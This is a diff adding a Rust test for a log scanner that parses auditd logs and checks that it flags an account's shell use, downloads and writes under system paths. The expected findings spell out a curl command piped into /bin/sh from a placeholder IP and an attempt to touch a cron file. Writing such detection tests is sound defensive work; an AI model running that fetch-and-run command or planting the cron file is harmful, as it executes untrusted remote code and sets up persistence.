@@ -315,3 +315,79 @@ fn old_linux_pam_lines_are_understood() {
     assert_eq!(understood, pam);
     assert!(with_ip > 400);
 }
+
+/// auditd's own logs, one per Debian release (tests/corpus/auditd): the
+/// commands the account ran come back exactly, the refused create names its
+/// directory, and the findings are the shell, the download and the writes.
+#[test]
+fn auditd_logs_of_each_release() {
+    use logscan::audit_log::{findings, read};
+    let want: Vec<Vec<&str>> = vec![
+        vec!["/bin/echo", "a \"quoted\" arg", "two\nlines", "tab\there"],
+        vec!["/bin/sh"],
+        vec![
+            "/bin/sh",
+            "-c",
+            "/usr/bin/curl -fsS --max-time 1 http://203.0.113.45/x.sh | /bin/sh",
+        ],
+        vec!["/bin/sh", "-c", "echo x >/srv/hkprobe/out"],
+        vec![
+            "/usr/bin/curl",
+            "-fsS",
+            "--max-time",
+            "1",
+            "http://203.0.113.45/x.sh",
+        ],
+        vec!["/usr/bin/touch", "/etc/cron.d/hk-probe"],
+    ];
+    for release in ["bookworm", "trixie", "forky"] {
+        let bytes = std::fs::read(corpus(&format!("auditd/{release}.log"))).unwrap();
+        let ev = read(&bytes[..], None).unwrap();
+        let mut got: Vec<Vec<&str>> = ev
+            .execs
+            .iter()
+            .map(|e| e.argv.iter().map(String::as_str).collect())
+            .collect();
+        got.sort();
+        assert_eq!(got, want, "{release}");
+        assert!(ev
+            .execs
+            .iter()
+            .all(|e| e.account == "test-13489" && e.success));
+        let writes: Vec<(&str, bool, Vec<&str>)> = ev
+            .writes
+            .iter()
+            .map(|w| {
+                (
+                    w.exe.as_str(),
+                    w.success,
+                    w.paths.iter().map(String::as_str).collect(),
+                )
+            })
+            .collect();
+        assert_eq!(
+            writes,
+            [
+                ("/usr/bin/touch", false, vec!["/etc/cron.d/"]),
+                ("/usr/bin/dash", true, vec!["/srv/hkprobe/out"]),
+            ],
+            "{release}"
+        );
+        // (once per account and program, once per account and path)
+        let ids: Vec<(String, String)> = findings(&ev, "audit.log")
+            .into_iter()
+            .map(|f| (f.id, f.title))
+            .collect();
+        let shown: Vec<(&str, &str)> = ids.iter().map(|(i, t)| (i.as_str(), t.as_str())).collect();
+        assert_eq!(
+            shown,
+            [
+                ("logscan/agent-shell", "test-13489 ran a shell: /bin/sh -c /usr/bin/curl -fsS --max-time 1 http://203.0.113.45/x.sh | /bin/sh"),
+                ("logscan/agent-download", "test-13489 fetched something: /usr/bin/curl -fsS --max-time 1 http://203.0.113.45/x.sh"),
+                ("logscan/agent-system-write", "test-13489 tried to write under a system path (refused): /etc/cron.d/"),
+                ("logscan/agent-system-write", "test-13489 wrote under a system path: /srv/hkprobe/out"),
+            ],
+            "{release}"
+        );
+    }
+}
